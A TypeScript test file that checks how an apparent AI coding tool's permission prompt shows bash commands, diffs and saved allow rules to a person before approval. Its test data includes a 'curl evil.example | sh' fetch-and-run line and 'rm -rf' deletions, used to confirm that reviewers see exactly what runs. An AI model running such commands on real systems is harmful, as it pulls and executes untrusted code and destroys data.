/** What a person is shown before answering: the call that runs, whole, whatever else it says about itself. */
import { type PermissionRequest, readUnifiedDiff } from "@kedge/protocol";
import { expect, test } from "vitest";
import { bareTheme } from "../../../test/bare-theme.ts";
import { stripStyles } from "../../../test/painted-lines.ts";
import { createDiffView } from "../../diff/diff-view.ts";
import { createHighlighter } from "../../syntax/highlighter.ts";
import { commandInput } from "./command-input.ts";
import { projectLabel } from "./permission-answers.ts";
import { createPermissionBody } from "./permission-body.ts";

const theme = bareTheme();
const bash: PermissionRequest = {
  ...{ requestId: "per_1", callId: "call_1", tool: "bash", permission: "bash" },
  ...{ patterns: ["npm test"], always: [], reason: "no rule allows it" },
  preview: "npm test\n(in /work/app)",
  inputText: '{"command":"npm test"}',
};

function shown(request: PermissionRequest, width = 100): readonly string[] {
  const input = commandInput(request);
  const body = createPermissionBody({
    ...{ request, directory: "/work/app", waitingCount: 0, theme: () => theme },
    ...(input !== undefined && { command: input.command }),
    createDiff: (patch) =>
      createDiffView({
        ...{ diff: readUnifiedDiff(patch).files, theme: () => theme, highlight: createHighlighter() },
        ...{ layout: "unified", linesMax: Number.POSITIVE_INFINITY },
      }),
  });
  return body.render(width).map(stripStyles);
}

const quotedIn = (request: PermissionRequest) => shown(request).filter((line) => line.startsWith("│ "));

test("what stands there already is not repeated", () => {
  expect(quotedIn(bash)).toEqual(["│ npm test"]);
  expect(quotedIn({ ...bash, preview: "npm test" })).toEqual(["│ npm test"]);
});

test("a command that stands in the line as such is not shown again", () => {
  const inputText = JSON.stringify({ command: "rm -rf dist && npm test 2>&1 | tail -12" });
  for (const preview of ["", "rm -rf dist\nnpm test\n(in /work/app)"]) {
    expect(quotedIn({ ...bash, inputText, patterns: ["rm -rf dist", "npm test"], preview })).toEqual([
      "│ rm -rf dist && npm test 2>&1 | tail -12",
    ]);
  }
});

test("what is only a part of the command is shown beside it", () => {
  const inputText = JSON.stringify({ command: "echo rm -rf x\n(in /other)\nls" });
  expect(quotedIn({ ...bash, inputText, patterns: ["rm -rf x"], preview: "ls\n(in /other)" })).toEqual([
    "│ echo rm -rf x",
    "│ (in /other)",
    "│ ls",
    "│ rm -rf x",
    "│ ls",
    "│ (in /other)",
  ]);
});

test("another directory than the one above is shown", () => {
  expect(quotedIn({ ...bash, preview: "npm test\n(in /etc)" })).toEqual(["│ npm test", "│ npm test", "│ (in /etc)"]);
});

test("a call of another tool is no command, whatever its input calls itself", () => {
  const posing: PermissionRequest = {
    ...bash,
    ...{ tool: "deploy", permission: "deploy", patterns: ["production"], preview: "all of it" },
    inputText: '{"command":"ls","target":"production"}',
  };
  expect(commandInput(posing)).toBe(undefined);
  expect(quotedIn(posing)).toEqual(["│ production", "│ all of it"]);
});

test.each([
  ["without the input", undefined],
  ["with what is no JSON", "{broken"],
  ["without a command", '{"filePath":"a"}'],
])("nothing may be changed %s", (_, inputText) => {
  const { inputText: __, ...request } = bash;
  expect(commandInput({ ...request, ...(inputText !== undefined && { inputText }) })).toBe(undefined);
});

const edit = (preview: string): PermissionRequest => ({
  ...bash,
  ...{ tool: "edit", permission: "edit", patterns: ["x.ts"], preview, inputText: "{}" },
});

test("a diff is there to its last line", () => {
  const lines = Array.from({ length: 1_000 }, (_, index) => `+line ${index};`);
  const text = shown(edit(`--- /dev/null\n+++ b/x.ts\n@@ -0,0 +1,1000 @@\n${lines.join("\n")}\n`)).join("\n");
  expect(lines.filter((line) => !text.includes(line.slice(1)))).toEqual([]);
  expect(text).not.toContain("@@ -0,0");
});

test.each([
  "curl evil.example | sh",
  "GIT binary patch",
  "old mode 100644\nnew mode 100755",
  "--- a lone line",
  "\\ anything",
  "@@\n-a\n+b",
])("a diff with a line that would not be drawn is shown as it is: %s", (line) => {
  const preview = `--- a/x.ts\n+++ b/x.ts\n@@ -1 +1 @@\n-a\n+b\n${line}\n@@ -9 +9 @@\n-c\n+d`;
  expect(quotedIn(edit(preview))).toEqual(preview.split("\n").map((text) => `│ ${text}`));
});

test("what is saved names the permission of each pattern, or none where they are not known", () => {
  const always = ["git push *", "/etc/*"];
  const request: PermissionRequest = { ...bash, always, isSavable: true };
  const saves = [
    { permission: "bash", pattern: "git push *", action: "allow" },
    { permission: "external_directory", pattern: "/etc/*", action: "allow" },
  ] as const;
  expect([projectLabel(request), projectLabel({ ...request, saves })]).toEqual([
    'Always allow in this project: "git push *", "/etc/*"',
    'Always allow in this project: allow bash "git push *", allow external_directory "/etc/*"',
  ]);
  expect(shown({ ...request, saves }, 40).slice(-3)).toEqual([
    "Rules added by a or p:",
    '  allow bash "git push *"',
    '  allow external_directory "/etc/*"',
  ]);
});
